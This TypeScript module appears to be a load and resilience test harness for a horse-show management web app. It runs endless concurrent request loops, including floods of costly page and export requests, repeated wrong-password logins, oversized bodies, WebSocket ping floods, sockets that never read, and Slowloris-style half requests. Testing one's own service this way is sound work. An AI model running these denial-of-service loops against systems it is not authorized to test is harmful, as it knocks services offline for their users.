import { connect } from 'node:net'
import { WebSocket } from 'ws'

export type Target = {
  url: string
  session: string
  csrf: string
  realtimeKey: string
  organization: number
  event: number
  big: number
  huge: number
  checks: string
}

type Attack = { name: string; run: (target: Target) => Promise<unknown> }

const LOOPS = 20

export const ATTACKS: Attack[] = [
  readAttack('check test page', ({ organization }) => `/organizer/checks/${organization}/test-page`),
  readAttack(
    'checks as a PDF',
    ({ organization, checks }) => `/organizer/checks/${organization}/print?${checks}`,
  ),
  readAttack('riders list', () => '/ajax/riders-list'),
  readAttack('horses list', () => '/ajax/horses-list'),
  readAttack('rider search', () => '/ajax/rider/search?query=a'),
  readAttack('payout rows of a big class', ({ big }) => `/ajax/payouts/${big}`),
  readAttack('results of a big class', ({ big }) => `/payout/activity/${big}`),
  readAttack(
    'export of a big class',
    ({ event, big }) => `/organizer/scoring/${event}/activities/${big}/export/payout.xlsx`,
  ),
  readAttack(
    'checks page of a big class',
    ({ event, big }) => `/organizer/scoring/${event}/activities/${big}/print-checks`,
  ),
  readAttack('draw rows', ({ big }) => `/ajax/draw/${big}/round?page=1`),
  readAttack('draw sheet of 1,200 slots', ({ big }) => `/drawsheet/activity/${big}`),
  readAttack('draw sheet of 10,000 slots', ({ huge }) => `/drawsheet/activity/${huge}`),
  {
    name: 'mailings of 50 copies',
    run: (target) =>
      loopConcurrently(LOOPS, () =>
        call(target, 'POST', `/api/hal/email-results/${target.big}`, {
          emails: Array.from({ length: 50 }, (_, index) => `r${index}@example.test`).join(),
        }),
      ),
  },
  {
    name: 'wrong passwords (signed out)',
    run: (target) =>
      loopConcurrently(LOOPS, () =>
        post(target, '/login', { email: `${Math.random()}@example.test`, password: 'wrong' }),
      ),
  },
  {
    name: 'long texts at the sign-in (signed out)',
    run: (target) =>
      loopConcurrently(LOOPS, () =>
        post(target, '/login', { email: 'a\u0301\u0327\u0300'.repeat(9_000), password: 'x' }),
      ),
  },
  {
    name: 'large bodies (signed out)',
    run: (target) =>
      loopConcurrently(LOOPS, () => post(target, '/login', { email: 'a', password: 'x'.repeat(250_000) })),
  },
  {
    name: 'large bodies',
    run: (target) =>
      loopConcurrently(LOOPS, () =>
        call(target, 'PATCH', `/ajax/activity/${target.big}`, Object.fromEntries(unknownKeys(2_000))),
      ),
  },
  {
    name: 'sign-in page (signed out)',
    run: (target) => loopConcurrently(LOOPS, () => get(target, '/login', '')),
  },
  { name: 'invented pages of the riders (signed out)', run: inventedPaths },
  { name: 'uncached searches (signed out)', run: searches },
  { name: 'pings on one socket (signed out)', run: pings },
  { name: 'sockets that never read (signed out)', run: neverRead },
  { name: 'half requests (signed out)', run: halfRequests },
]

function readAttack(name: string, path: (target: Target) => string): Attack {
  return { name, run: (target) => loopConcurrently(LOOPS, () => get(target, path(target), target.session)) }
}

const unknownKeys = (count: number) => Array.from({ length: count }, (_, index) => [`unknown${index}`, 0])

async function loopConcurrently(count: number, once: () => Promise<unknown>) {
  await Promise.all(
    Array.from({ length: count }, async () => {
      for (;;) await once().catch(() => {})
    }),
  )
}

const get = async ({ url }: Target, path: string, session: string) =>
  (await fetch(url + path, { headers: { Cookie: `session=${session}` } })).arrayBuffer()

function inventedPaths(target: Target) {
  const addresses = [
    (number: number) => `/m/e/none-${number}`,
    (number: number) => `/m/activities/${target.big}?round=x${number}`,
    (number: number) => `/m/zzz/${number}`,
  ]
  let count = 0
  return loopConcurrently(50, () => get(target, addresses[++count % 3]!(count), ''))
}

function searches(target: Target) {
  let count = 0
  return loopConcurrently(200, () => get(target, `/m?q=made up ${++count}`, ''))
}

const call = async ({ url, session, csrf }: Target, method: string, path: string, body: object) =>
  (
    await fetch(url + path, {
      method,
      headers: { Cookie: `session=${session}`, 'X-CSRF-TOKEN': csrf, 'Content-Type': 'application/json' },
      body: JSON.stringify(body),
    })
  ).arrayBuffer()

async function post(target: Target, path: string, body: object) {
  const visitor = await signedOutSession(target)
  return call({ ...target, ...visitor }, 'POST', path, body)
}

let cachedSession: Promise<Pick<Target, 'session' | 'csrf'>> | undefined
const signedOutSession = ({ url }: Target) =>
  (cachedSession ??= fetch(`${url}/login`).then(({ headers }) => {
    const cookies = String(headers.getSetCookie())
    const [session, csrf] = [/session=([^;]+)/, /XSRF-TOKEN=([^;]+)/].map((one) => one.exec(cookies)![1]!)
    return { session: session!, csrf: decodeURIComponent(csrf!) }
  }))

const socketOf = ({ url, realtimeKey }: Target) =>
  new WebSocket(`${url.replace('http', 'ws')}/app/${realtimeKey}?protocol=7`)

const PING = JSON.stringify({ event: 'pusher:ping', data: {} })

async function pings(target: Target) {
  for (;;) {
    const socket = socketOf(target)
    await new Promise<void>((resolve) => {
      socket.on('error', () => {}).on('close', () => setTimeout(resolve, 20))
      socket.on('open', () => {
        const send = () => {
          if (socket.readyState !== WebSocket.OPEN) return
          for (let n = 0; n < 500; n++) socket.send(PING)
          setImmediate(send)
        }
        send()
      })
    })
  }
}

async function neverRead(target: Target) {
  await Promise.all(
    Array.from({ length: 300 }, async () => {
      for (;;) {
        const socket = socketOf(target)
        await new Promise<void>((resolve) => {
          let asking: NodeJS.Timeout
          socket
            .on('error', () => {})
            .on('close', () => {
              clearInterval(asking)
              setTimeout(resolve, 100)
            })
          socket.on('open', () => {
            socket.pause()
            asking = setInterval(() => socket.send(PING), 10)
          })
        })
      }
    }),
  )
}

async function halfRequests({ url }: Target) {
  const { hostname, port } = new URL(url)
  await loopConcurrently(
    300,
    () =>
      new Promise<void>((resolve) => {
        const socket = connect(Number(port), hostname)
        socket.on('error', () => {}).on('close', () => setTimeout(resolve, 50))
        socket.write(
          'POST /login HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\nContent-Type: application/json\r\n\r\n{',
        )
        const more = setInterval(() => socket.write(' '), 20)
        socket.on('close', () => clearInterval(more))
      }),
  )
}
